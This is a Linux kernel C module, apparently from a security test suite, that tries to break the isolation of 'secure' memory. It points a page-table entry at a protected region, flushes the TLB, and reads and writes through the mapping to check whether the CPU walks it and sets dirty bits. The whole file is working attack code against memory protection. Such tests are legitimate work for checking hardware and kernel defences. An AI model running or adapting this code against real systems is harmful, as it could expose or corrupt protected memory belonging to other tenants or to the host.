/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Makes a page of secure memory a page table: the CPU itself reads it, and would write accessed and dirty
 * bits to it.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/io.h>
#include <asm/tlbflush.h>

static const u64 pattern = 0x5ec90d00a11c0de5ull;
static u64 seen;
static u64 dirtied;

static void fill(void *table, u64 target)
{
	for (unsigned int i = 0; i < ATTACK_ENTRIES; i++)
		if (!attack_store((u64 *)table + i, target | __PAGE_KERNEL_NOENC))
			return;
}

static void walk(u64 *entry, unsigned long address, u64 table)
{
	unsigned int fault = 1;
	unsigned long flags;

	local_irq_save(flags);
	(void)attack_store(entry, table | _KERNPG_TABLE_NOENC);
	__flush_tlb_all();
	asm volatile(ATTACK_TRY("movq (%[from]), %[value]")
		     : [fault] "+r"(fault), [value] "+r"(seen)
		     : [from] "r"(address)
		     : "memory", "cc");
	fault = 1;
	asm volatile(ATTACK_TRY("movq %[value], 8(%[to])")
		     : [fault] "+r"(fault)
		     : [to] "r"(address), [value] "r"(pattern)
		     : "memory", "cc");
	(void)attack_store(entry, 0);
	__flush_tlb_all();
	local_irq_restore(flags);
}

static int attempt(void)
{
	u64 *target = (u64 *)get_zeroed_page(GFP_KERNEL);
	unsigned long address = attack_area();
	u64 base, size;
	void *table;
	int result = attack_secure_space(&base, &size);

	if (result)
		return result;
	if (!target || !address)
		return -ENOMEM;
	*target = pattern;
	table = attack_map(base, PAGE_KERNEL);
	if (table)
		fill(table, virt_to_phys(target));
	walk(attack_slot(address, 2, NULL), address, base);
	dirtied = target[1];
	return 0;
}

static bool effect(void)
{
	attack_detail("read through it 0x%llx, written 0x%llx", seen, dirtied);
	return seen == pattern || dirtied;
}

static const struct attack secure_walk = {
	"secure_walk", "secure-space,page-table-secure", NULL, attempt, effect, NULL};
ATTACK_MODULE(secure_walk);
